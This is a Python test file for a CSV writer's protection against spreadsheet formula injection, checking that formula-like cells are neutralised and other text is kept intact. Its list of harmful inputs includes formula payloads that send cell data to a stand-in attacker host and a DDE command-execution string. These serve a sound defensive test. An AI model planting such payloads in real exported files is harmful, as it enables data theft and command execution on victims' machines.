"""Cells of CSV: what a spreadsheet would evaluate is text, and everything comes back as it was."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cardveil.core.spreadsheet import BOM, cell, line

#: What a program might evaluate, by what stands at a cell's beginning.
HARMFUL = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\u00a0=1+1",
    "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
    "\u22121+1", "=HYPERLINK(\"http://evil.example/\"&A1)", "=cmd|'/C calc'!A0", "|calc", "%0A=1", "'=1+1",
    "\"=1+1", "''=1", "x;=1+1", "x,=1+1", "x\t=1+1", "x\r\n=1+1", "x\n-1", "x\uff1b\uff1d1", "\x00=1+1",
    "\x0b=1+1", "\x85=1+1", "=DDE(\"a\";\"b\")", "=WEBSERVICE(\"http://evil.example\")", "+49 30 1234",
    "-", "--1", "@", "=",
]  # fmt: skip
HARMLESS = [
    "张三", "11010519491231002X", "a=b", "2026-11-28T00:00:00Z", "a@b.example", "1-2", "", "a+b", 'say "so"',
]  # fmt: skip


def read(text: str) -> list[list[str]]:
    """Read CSV by the standard library's strict reader."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def evaluated(shown: str) -> bool:
    """Say whether a careless program would take a cell for a formula: trimmed, folded, split anywhere."""
    for part in re.split("[;,\t\r\n\uff1b\uff0c]", shown):
        folded = unicodedata.normalize("NFKC", part).replace("\u2212", "-")
        bare = "".join(c for c in folded if unicodedata.category(c) not in {"Cf", "Cc", "Zs"})
        if bare.strip().strip('"')[:1] in {"=", "+", "-", "@"}:
            return True
    return False


@pytest.mark.parametrize("text", HARMFUL)
def test_what_would_be_evaluated_is_text(text: str) -> None:
    ((shown,),) = read(line([text]))
    assert not evaluated(shown)


@pytest.mark.parametrize("text", HARMLESS)
def test_all_else_is_as_it_was(text: str) -> None:
    assert read(line([text])) == [[text]]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_no_text_is_evaluated_or_breaks_its_line(texts: list[str]) -> None:
    (cells,) = read(line(texts))
    assert len(cells) == len(texts)
    assert not any(map(evaluated, cells))
    for text, shown in zip(texts, cells, strict=True):
        assert shown.replace("'", "").replace("\ufffd", "") == re.sub(
            "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffd\ufffe\uffff']", "", text
        ), "nothing but apostrophes is added"


def test_the_form_is_that_of_rfc_4180() -> None:
    assert line(["a", 'b"c', "d\r\ne"]) == '"a","b""c","d\r\ne"\r\n'
    assert BOM.encode() == b"\xef\xbb\xbf"
    assert cell("\ud800x") == '"\ufffdx"', "half of a surrogate pair is in no UTF-8"
